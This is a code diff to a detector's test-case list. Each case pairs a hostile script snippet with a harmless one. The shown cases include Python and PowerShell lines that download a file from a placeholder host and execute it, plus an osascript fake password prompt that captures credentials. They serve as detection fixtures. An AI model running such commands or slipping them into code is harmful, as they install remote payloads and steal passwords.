@@ -154,6 +154,10 @@ CASES: list[tuple[str, str, str, str, str]] = [
     ("remote-fetch-exec", "x.py",
      "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.example.invalid/u', '/tmp/u.sh')\nsubprocess.call(['sh', '/tmp/u.sh'])\n",
      "high", "import urllib.request\nurllib.request.urlretrieve('https://x.example.invalid/d.csv', 'd.csv')\nprint(open('d.csv').read())\n"),
+    ("remote-fetch-exec", "x.ps1",
+     "(New-Object Net.WebClient).DownloadFile('https://x.example.invalid/u.exe', \"$env:TEMP\\u.exe\")\n"
+     "Start-Process \"$env:TEMP\\u.exe\"\n",
+     "high", "(New-Object Net.WebClient).DownloadFile('https://x.example.invalid/d.csv', 'd.csv')\nGet-Content d.csv\n"),
     ("credential-prompt", "x.sh",
      "pw=$(osascript -e 'display dialog \"Enter your password\" default answer \"\" with hidden answer')\n",
      "high", "osascript -e 'display dialog \"Backup finished\" buttons {\"OK\"}'\n"),
